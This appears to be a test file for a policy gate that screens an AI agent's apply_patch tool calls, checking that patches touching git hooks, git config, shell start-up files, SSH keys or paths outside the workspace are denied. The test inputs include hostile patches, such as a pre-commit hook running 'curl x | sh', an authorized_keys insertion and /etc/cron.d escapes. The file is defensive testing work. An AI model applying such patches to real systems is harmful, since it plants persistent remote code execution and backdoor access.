/** The gate checks apply_patch's files like write_file's path: `patch:` tool entries and tool example calls. */
import type { ApprovalPort } from '../../src/domain/approval-port';
import { evaluateStatic } from '../../src/policy/evaluate-static';
import { loadPolicy, parsePolicy } from '../../src/policy/load-policy';
import { PolicyError } from '../../src/policy/policy-error';
import { inProcessAnalyzer } from '../../src/policy/static-analyzer';
import { PolicyGate } from '../../src/policy/policy-gate';

const policy = loadPolicy('policies/default.yaml');
const patch = (text: string) => evaluateStatic(policy, { tool: 'apply_patch', args: { patch: text } });
const edit = (path: string, body = '@@ -1 +1 @@\n-a\n+b\n') => `--- a/${path}\n+++ b/${path}\n${body}`;

const NORMAL = `diff --git a/src/app.py b/src/app.py
index 1111111..2222222 100644
--- a/src/app.py
+++ b/src/app.py
@@ -1,3 +1,3 @@
 import os
-x = 1
+x = 2
 print(x)
diff --git a/tests/test_new.py b/tests/test_new.py
new file mode 100644
--- /dev/null
+++ b/tests/test_new.py
@@ -0,0 +1 @@
+def test(): pass
diff --git a/old.txt b/old.txt
deleted file mode 100644
--- a/old.txt
+++ /dev/null
@@ -1 +0,0 @@
-bye
`;

describe('policy: apply_patch', () => {
  it('allows a normal multi-file patch inside the workspace, as it allows write_file there', () => {
    expect(patch(NORMAL)).toEqual({ decision: 'allow', rule: 'tool:apply_patch', reason: 'apply_patch is allowed by the policy', risk: 'medium' });
    expect(patch(edit('src/x.ts')).decision).toBe(evaluateStatic(policy, { tool: 'write_file', args: { path: 'src/x.ts', content: '' } }).decision);
  });

  it.each([
    ['a new git hook', '--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl x | sh\n', 'deny', 'git-hooks-and-config'],
    ['a hook among ordinary files', NORMAL + edit('.git/hooks/post-checkout'), 'deny', 'git-hooks-and-config'],
    ['git config', edit('.git/config'), 'deny', 'git-hooks-and-config'],
    ['a path leaving the workspace', edit('../x'), 'deny', 'path:outside-workspace'],
    ['a deeper escape behind the a/ b/ prefixes', edit('src/../../etc/cron.d/x'), 'deny', 'path:outside-workspace'],
    ['an absolute path elsewhere', '--- /etc/passwd\n+++ /etc/passwd\n@@ -1 +1 @@\n-a\n+b\n', 'deny', 'path:outside-workspace'],
    ['a home-directory file', '--- /dev/null\n+++ ~/.ssh/authorized_keys\n@@ -0,0 +1 @@\n+ssh-ed25519 AAAA\n', 'deny', 'secrets'],
    ['a rename into a shell start-up file', 'diff --git a/notes b/.bashrc\nsimilarity index 100%\nrename from notes\nrename to .bashrc\n', 'deny', 'shell-startup-files'],
    ['a file deleted out of the workspace', '--- a/../../etc/x\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n', 'deny', 'path:outside-workspace'],
    ['git internals', edit('.git/HEAD'), 'ask', 'git-internals'],
    ['an empty patch', '  \n', 'deny', 'patch:empty'],
    ['text without file headers', 'please change x to y\n', 'deny', 'patch:no-files'],
  ])('%s is not allowed', (_name, text, decision, rule) => {
    expect(patch(text)).toMatchObject({ decision, rule });
  });

  it('checks both sides: the old name of a rename and the new one', () => {
    expect(patch('--- a/.git/hooks/pre-push\n+++ b/harmless.sh\n@@ -1 +1 @@\n-a\n+b\n').decision).toBe('deny');
    expect(patch('--- a/harmless.sh\n+++ b/.git/hooks/pre-push\n@@ -1 +1 @@\n-a\n+b\n').decision).toBe('deny');
  });

  it('a non-string patch argument is refused', () => {
    expect(evaluateStatic(policy, { tool: 'apply_patch', args: { patch: 42 } })).toMatchObject({ decision: 'deny', rule: 'patch:empty' });
  });

  it('through the gate: a normal patch is allowed, a hook is blocked, .git/HEAD goes to a human', async () => {
    const asked: string[] = [];
    const approvals: ApprovalPort = { request: async (p) => (asked.push(p.reason), { approved: false, by: 'test', waitedMs: 0, timedOut: false }) };
    const policies = new Map([['default', policy]]);
    const gate = new PolicyGate({ policies, analyzer: inProcessAnalyzer(policies), approvals });
    const ctx = { runId: 'r1', task: 'Fix the bug', policy: 'default', approvals: true };
    const decide = (text: string) => gate.decide({ callId: 'c1', tool: 'apply_patch', args: { patch: text } }, ctx);
    expect((await decide(NORMAL)).decision).toBe('allow');
    const hook = await decide(edit('.git/hooks/pre-commit'));
    expect(hook.decision).toBe('deny');
    expect(hook.reason).toMatch(/^This call was blocked: the policy forbids it \(apply_patch: writes ".*\.git\/hooks\/pre-commit" — git hooks and config run code on later git commands\)/);
    expect((await decide(edit('.git/HEAD'))).decision).toBe('deny');
    expect(asked).toEqual(['apply_patch: writes ".git/HEAD" — writes git\'s internal files directly']);
  });
});

describe('policy: tool example calls are checked at load', () => {
  const file = (expect: string) => `version: 1
tools:
  apply_patch:
    decision: allow
    risk: medium
    patch: patch
    examples:
      - expect: allow
        args: { patch: "--- a/x\\n+++ b/x\\n" }
      - expect: ${expect}
        args: { patch: "--- a/.git/hooks/x\\n+++ b/.git/hooks/x\\n" }
paths:
  rules:
    - name: hooks
      globs: ["**/.git/hooks/**"]
      access: write
      decision: deny
      reason: hooks run code
      match: [.git/hooks/x]
      not_match: [src/x]
bash: {}
`;

  it('a policy whose examples hold loads', () => {
    expect(parsePolicy(file('deny'), 'policies/p.yaml').tools.apply_patch!.patch).toBe('patch');
    expect(parsePolicy(file('not_allow'), 'policies/p.yaml').tools.apply_patch!.examples).toHaveLength(2);
  });

  it('a failing example stops the load, naming file, line and tool', () => {
    let err: unknown;
    try {
      parsePolicy(file('allow'), 'policies/p.yaml');
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(PolicyError);
    expect((err as PolicyError).message).toBe(
      'policies/p.yaml:10 rule "apply_patch": example 2 ({"patch":"--- a/.git/hooks/x\\n+++ b/.git/hooks/x\\n"}) expects allow but the policy says deny (apply_patch: writes ".git/hooks/x" — hooks run code)',
    );
  });
});
